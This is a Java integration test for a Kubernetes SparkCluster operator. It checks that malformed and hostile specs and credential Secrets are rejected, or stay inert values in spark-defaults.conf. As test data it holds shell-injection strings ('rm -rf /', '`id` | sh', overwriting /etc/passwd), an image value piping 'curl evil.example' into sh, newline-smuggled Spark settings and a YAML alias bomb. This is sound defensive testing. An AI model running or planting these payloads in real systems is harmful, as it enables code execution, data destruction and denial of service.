package io.sparkmagnum.operator.reliability;

import static io.sparkmagnum.operator.reliability.Observed.awaitReady;
import static io.sparkmagnum.operator.reliability.Observed.baysEverNamed;
import static io.sparkmagnum.operator.reliability.Observed.condition;
import static io.sparkmagnum.operator.reliability.Observed.derivedBayName;
import static io.sparkmagnum.operator.reliability.Observed.eventually;
import static io.sparkmagnum.operator.reliability.Observed.within;
import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.sparkmagnum.api.v1alpha1.Condition;
import io.sparkmagnum.api.v1alpha1.Phase;
import io.sparkmagnum.api.v1alpha1.SparkCluster;
import io.sparkmagnum.operator.status.Reasons;
import io.sparkmagnum.operator.testing.OperatorHarness;
import io.sparkmagnum.simulator.DemoCloud;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Hostile and malformed input, as the fabric8 mock API (which validates no schema) lets it through: every
 * SparkCluster gets a rejection (InvalidSpec, Credentials*) or a clear condition, the operator goes on
 * serving the healthy SparkCluster meanwhile, and nothing of the input ends up in a command line or
 * anywhere but as a value in the spark-defaults file.
 */
@Tag("integration")
class HostileInputIT {
  private static final String NAMESPACE = "hostile";
  private static final String HEALTHY = "healthy";
  private static final String SHELL = "$(touch /tmp/pwned); `id` | sh && rm -rf / ; echo ${HOME} > /etc/passwd";

  @RegisterExtension
  static final SecretCanary canary = new SecretCanary();

  private static OperatorHarness harness;
  private static int healthyReplicas = 2;

  @BeforeAll
  static void start() {
    harness = OperatorHarness.start(Canaries::cloud, Map.of());
    canary.inspect(harness.management, harness.bay);
    Canaries.namespaceWithPassword(harness, NAMESPACE);
    harness.apply(OperatorHarness.sparkCluster(NAMESPACE, HEALTHY, DemoCloud.TEMPLATE_NAME));
    awaitReady(harness, NAMESPACE, HEALTHY);
  }

  @AfterAll
  static void stop() {
    harness.close();
  }

  /** Meanwhile the healthy SparkCluster is served: a change of its spec is carried out within seconds. */
  @AfterEach
  void theHealthySparkClusterIsStillServed() {
    int wanted = ++healthyReplicas;
    Observed.edit(harness, NAMESPACE, HEALTHY, c -> c.getSpec().getWorkers().setReplicas(wanted));
    within(Duration.ofSeconds(15)).untilAsserted(() -> {
      SparkCluster healthy = harness.get(NAMESPACE, HEALTHY);
      assertThat(healthy.getStatus().getWorkers().getReady()).isEqualTo(wanted);
      assertThat(healthy.getStatus().condition("Ready").orElseThrow().getStatus()).isEqualTo(Condition.TRUE);
    });
  }

  private static SparkCluster cluster(String name, Consumer<SparkCluster> change) {
    SparkCluster cluster = OperatorHarness.sparkCluster(NAMESPACE, name, DemoCloud.TEMPLATE_NAME);
    change.accept(cluster);
    return cluster;
  }

  private static String repeat(String text, int times) {
    return text.repeat(times);
  }

  @Test
  void invalidSpecsAreRejectedWithoutAnyBay() {
    Map<String, String> tooMuchConf = new LinkedHashMap<>();
    for (int i = 0; i < 300; i++) {
      tooMuchConf.put("spark.hostile.entry" + i, repeat("x", 1024));
    }
    Map<String, SparkCluster> invalid = new LinkedHashMap<>();
    Stream.of(
        cluster("negative-workers", c -> c.getSpec().getWorkers().setReplicas(-1)),
        cluster("no-nodes", c -> c.getSpec().getBay().setNodeCount(0)),
        cluster("no-masters", c -> c.getSpec().getBay().setMasterCount(-5)),
        cluster("no-cores", c -> c.getSpec().getWorkers().setCores(Integer.MIN_VALUE)),
        cluster("no-timeout", c -> c.getSpec().getBay().setCreateTimeoutMinutes(0)),
        cluster("memory-words", c -> c.getSpec().getWorkers().setMemory("lots")),
        cluster("memory-overflow", c -> c.getSpec().getWorkers().setMemory("9223372036854775807g")),
        cluster("memory-bytes", c -> c.getSpec().getWorkers().setMemory("4096")),
        cluster("image-with-command", c -> c.getSpec().setImage("apache/spark:3.5.3 && curl evil.example | sh")),
        cluster("bay-name-unicode", c -> c.getSpec().getBay().setName("bäy-ünïcode")),
        cluster("bay-name-long", c -> c.getSpec().getBay().setName("b" + repeat("a", 242))),
        cluster("bay-name-shell", c -> c.getSpec().getBay().setName("bay;rm -rf /")),
        // a name too long for its Service (a non-ASCII metadata.name no API server accepts in the first place)
        cluster(repeat("n", 57), c -> { }),
        cluster("conf-newline", c -> c.getSpec().getSparkConf().put("spark.executor.memory",
            "1g\nspark.master=spark://evil.example:7077")),
        cluster("conf-key-shell", c -> c.getSpec().getSparkConf().put("spark.$(id)", "x")),
        cluster("conf-key-newline", c -> c.getSpec().getSparkConf().put("spark.a\nspark.master", "x")),
        cluster("conf-master", c -> c.getSpec().getSparkConf().put("spark.master", "spark://evil.example:7077")),
        cluster("conf-huge", c -> c.getSpec().getSparkConf().putAll(tooMuchConf)))
        .forEach(cluster -> invalid.put(cluster.getMetadata().getName(), harness.apply(cluster)));
    // explicit nulls, which an API server would have replaced by the schema's defaults
    for (String spec : List.of("{\"workers\": null}", "{\"workers\": {\"memory\": null, \"replicas\": null}}",
        "{\"image\": null, \"cloud\": {\"secretName\": null}}", "{\"bay\": null}", "null")) {
      String name = "nulls-" + invalid.size();
      invalid.put(name, createRaw(name, spec));
    }

    for (String name : invalid.keySet()) {
      Condition ready = awaitReady(harness, NAMESPACE, name, Condition.FALSE, Reasons.INVALID_SPEC);
      assertThat(ready.getMessage()).as(name).startsWith("The spec is invalid: ");
      assertThat(harness.get(NAMESPACE, name).getStatus().getPhase()).as(name).isEqualTo(Phase.Failed);
    }
    assertThat(condition(harness, NAMESPACE, "negative-workers", "Ready").orElseThrow().getMessage())
        .contains("spec.workers.replicas");
    assertThat(condition(harness, NAMESPACE, "memory-overflow", "Ready").orElseThrow().getMessage())
        .contains("spec.workers.memory");
    assertThat(condition(harness, NAMESPACE, "conf-master", "Ready").orElseThrow().getMessage())
        .contains("spark.master");
    assertThat(harness.openstack.clustersCreatedThroughApi()).as("only the healthy SparkCluster's bay").isEqualTo(1);

    // and they go away when deleted
    invalid.keySet().forEach(name -> harness.resource(NAMESPACE, name).delete());
    eventually().untilAsserted(() ->
        invalid.keySet().forEach(name -> assertThat(harness.get(NAMESPACE, name)).as(name).isNull()));
  }

  /** A SparkCluster written as raw JSON, e.g. with explicit nulls that no Java model would send. */
  private static SparkCluster createRaw(String name, String spec) {
    String json = """
        {"apiVersion": "sparkmagnum.io/v1alpha1", "kind": "SparkCluster",
         "metadata": {"name": "%s", "namespace": "%s"}, "spec": %s}""".formatted(name, NAMESPACE, spec);
    try {
      HttpResponse<String> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(
              harness.management.url() + "/apis/sparkmagnum.io/v1alpha1/namespaces/" + NAMESPACE + "/sparkclusters"))
          .header("Content-Type", "application/json")
          .POST(HttpRequest.BodyPublishers.ofString(json)).build(), HttpResponse.BodyHandlers.ofString());
      assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
      return Serialization.unmarshal(response.body(), SparkCluster.class);
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  @Test
  void hostileValuesThatAreValidStayValuesInsideTheBay() {
    String unicode = "Analyse für 東京 ✓ \u202Egnp.exe";
    SparkCluster hostile = harness.apply(cluster("shell-values", c -> {
      c.getSpec().getSparkConf().put("spark.driver.extraJavaOptions", SHELL);
      c.getSpec().getSparkConf().put("spark.app.name", unicode);
      c.getSpec().getSparkConf().put("spark.hostile.comment", "#!/bin/sh\\ = : ! # \\u0041");
      c.getSpec().getDriver().setEnabled(true);
    }));
    // the longest name whose objects fit, in the longest namespace: the bay name stays within Magnum's 242
    String longNamespace = "n" + repeat("s", 62);
    Canaries.namespaceWithPassword(harness, longNamespace);
    SparkCluster longName = harness.apply(OperatorHarness.sparkCluster(longNamespace, repeat("l", 56),
        DemoCloud.TEMPLATE_NAME));
    SparkCluster extreme = harness.apply(cluster("extreme-values", c -> {
      c.getSpec().getWorkers().setCores(Integer.MAX_VALUE);
      c.getSpec().getWorkers().setMemory("2047t");
      c.getSpec().getBay().setCreateTimeoutMinutes(Integer.MAX_VALUE);
      c.getSpec().getBay().setNodeCount(1000);
    }));

    awaitReady(harness, NAMESPACE, "shell-values");
    awaitReady(harness, longNamespace, longName.getMetadata().getName());
    awaitReady(harness, NAMESPACE, "extreme-values");
    assertThat(derivedBayName(longName)).hasSizeLessThanOrEqualTo(242);
    assertThat(baysEverNamed(harness, derivedBayName(longName))).hasSize(1);
    assertThat(baysEverNamed(harness, derivedBayName(extreme))).singleElement()
        .satisfies(bay -> assertThat(bay.nodeCount()).isEqualTo(1000));

    var bay = harness.bayClient();
    // the values are properties in spark-defaults.conf, read back exactly as given, and nothing more
    String defaults = bay.configMaps().inNamespace(NAMESPACE).withName("shell-values-spark-defaults").get().getData()
        .values().iterator().next();
    Properties properties = new Properties();
    try {
      properties.load(new StringReader(defaults));
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    assertThat(properties).containsOnlyKeys("spark.master", "spark.driver.extraJavaOptions", "spark.app.name",
        "spark.hostile.comment");
    assertThat(properties.getProperty("spark.master")).isEqualTo("spark://shell-values-master.hostile.svc:7077");
    assertThat(properties.getProperty("spark.driver.extraJavaOptions")).isEqualTo(SHELL);
    assertThat(properties.getProperty("spark.app.name")).isEqualTo(unicode);
    assertThat(properties.getProperty("spark.hostile.comment")).isEqualTo("#!/bin/sh\\ = : ! # \\u0041");
    assertThat(defaults).as("plain ASCII, one line per property").matches("[\\x20-\\x7e\\n]*")
        .hasLineCount(1 + properties.size());

    // and never part of a command line, an argument or an environment variable
    List<Container> containers = new ArrayList<>();
    for (String pod : List.of("shell-values-master", "shell-values-driver")) {
      Pod object = bay.pods().inNamespace(NAMESPACE).withName(pod).get();
      containers.addAll(object.getSpec().getContainers());
      containers.addAll(object.getSpec().getInitContainers());
    }
    Deployment workers = bay.apps().deployments().inNamespace(NAMESPACE).withName("shell-values-worker").get();
    containers.addAll(workers.getSpec().getTemplate().getSpec().getContainers());
    containers.addAll(workers.getSpec().getTemplate().getSpec().getInitContainers());
    for (Container container : containers) {
      List<String> words = new ArrayList<>();
      words.addAll(container.getCommand());
      words.addAll(container.getArgs());
      container.getEnv().stream().map(EnvVar::getValue).filter(v -> v != null).forEach(words::add);
      assertThat(String.join(" ", words)).as(container.getName())
          .doesNotContain("pwned", "rm -rf", "東京", "/bin/sh\\");
    }
  }

  @Test
  void unusableCredentialsGetAClearCondition() {
    String authUrl = harness.openstack.authUrl();
    Map<String, Secret> secrets = new LinkedHashMap<>();
    secrets.put("malformed", Canaries.secret(NAMESPACE, "malformed",
        "clouds:\n  openstack:\n    auth: {password: " + Canaries.PASSWORD + ", [unclosed\n"));
    secrets.put("not-yaml", new SecretBuilder().withNewMetadata().withName("not-yaml").withNamespace(NAMESPACE)
        .endMetadata().addToData("clouds.yaml", Base64.getEncoder().encodeToString(new byte[] {0, 1, 2, -1, -2, 10}))
        .build());
    secrets.put("not-base64", new SecretBuilder().withNewMetadata().withName("not-base64").withNamespace(NAMESPACE)
        .endMetadata().addToData("clouds.yaml", "%%% not base64 %%%").build());
    secrets.put("no-key", new SecretBuilder().withNewMetadata().withName("no-key").withNamespace(NAMESPACE)
        .endMetadata().addToData("cloud.yaml", Base64.getEncoder().encodeToString("clouds: {}".getBytes(
            StandardCharsets.UTF_8))).build());
    secrets.put("alias-bomb", Canaries.secret(NAMESPACE, "alias-bomb", aliasBomb()));
    secrets.put("unreachable", Canaries.secret(NAMESPACE, "unreachable",
        Canaries.passwordCloudsYaml("http://127.0.0.1:1/v3", Canaries.PASSWORD)));
    secrets.put("not-openstack", Canaries.secret(NAMESPACE, "not-openstack",
        Canaries.passwordCloudsYaml(harness.management.url() + "/v3", Canaries.PASSWORD)));
    // a Secret near the API server's 1 MiB limit: a valid clouds.yaml under a mountain of comments
    secrets.put("huge", Canaries.secret(NAMESPACE, "huge", ("# " + repeat("padding ", 120) + "\n").repeat(1000)
        + Canaries.passwordCloudsYaml(authUrl, Canaries.PASSWORD)));
    secrets.values().forEach(secret -> harness.management.client().resource(secret).create());
    for (String name : secrets.keySet()) {
      harness.apply(cluster("credentials-" + name, c -> c.getSpec().getCloud().setSecretName(name)));
    }

    Map<String, String> expectedReasons = new LinkedHashMap<>();
    expectedReasons.put("malformed", Reasons.CREDENTIALS_INVALID);
    expectedReasons.put("not-yaml", Reasons.CREDENTIALS_INVALID);
    expectedReasons.put("not-base64", Reasons.CREDENTIALS_INVALID);
    expectedReasons.put("no-key", Reasons.CREDENTIALS_MISSING);
    expectedReasons.put("alias-bomb", Reasons.CREDENTIALS_INVALID);
    expectedReasons.put("unreachable", Reasons.OPENSTACK_UNAVAILABLE);
    expectedReasons.put("not-openstack", Reasons.OPENSTACK_REJECTED);
    expectedReasons.forEach((name, reason) -> {
      Condition ready = awaitReady(harness, NAMESPACE, "credentials-" + name, Condition.FALSE, reason);
      assertThat(ready.getMessage()).as(name).isNotBlank().doesNotContain("Exception");
    });
    assertThat(condition(harness, NAMESPACE, "credentials-malformed", "Ready").orElseThrow().getMessage())
        .contains("line 3");
    assertThat(condition(harness, NAMESPACE, "credentials-unreachable", "Ready").orElseThrow().getMessage())
        .contains("127.0.0.1:1");
    awaitReady(harness, NAMESPACE, "credentials-huge");
    eventually().untilAsserted(() -> assertThat(harness.events(NAMESPACE, "credentials-malformed"))
        .anySatisfy(event -> assertThat(event.getReason()).isEqualTo(Reasons.CREDENTIALS_INVALID)));
  }

  /** Nine levels of ten aliases: a billion entries if a parser expanded them. */
  private static String aliasBomb() {
    StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\"]\n");
    for (int level = 1; level < 10; level++) {
      yaml.append("a").append(level).append(": &a").append(level).append(" [");
      for (int i = 0; i < 10; i++) {
        yaml.append(i == 0 ? "" : ", ").append("*a").append(level - 1);
      }
      yaml.append("]\n");
    }
    return yaml.append("clouds: {openstack: {auth: *a9}}\n").toString();
  }
}
